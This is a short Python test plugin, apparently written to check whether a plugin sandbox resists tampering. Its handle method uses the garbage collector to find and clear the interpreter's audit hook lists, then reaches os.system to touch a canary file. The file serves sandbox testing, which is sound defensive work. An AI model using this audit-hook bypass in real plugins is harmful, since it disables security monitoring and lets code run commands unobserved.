"""Hostile test plugin: Empties the interpreter's audit hook list (found through gc), then runs os.system."""

class Plugin:
    def handle(self, request):
        import gc
        gc.unfreeze()  # a frozen heap is hidden from get_objects()/get_referrers()
        cleared = 0
        for obj in gc.get_objects():
            if callable(obj) and "audit" in getattr(obj, "__qualname__", "").lower():
                for ref in gc.get_referrers(obj):
                    if isinstance(ref, list) and ref and all(callable(h) for h in ref):
                        ref.clear()
                        cleared += 1
        os_module = None
        for obj in gc.get_objects():
            if isinstance(obj, dict) and obj.get("__name__") == "os" and "system" in obj:
                os_module = obj
        rc = os_module["system"]("/usr/bin/touch " + request["canary"])
        if rc != 0:
            raise OSError("system returned %d (cleared %d hook lists)" % (rc, cleared))
        return rc
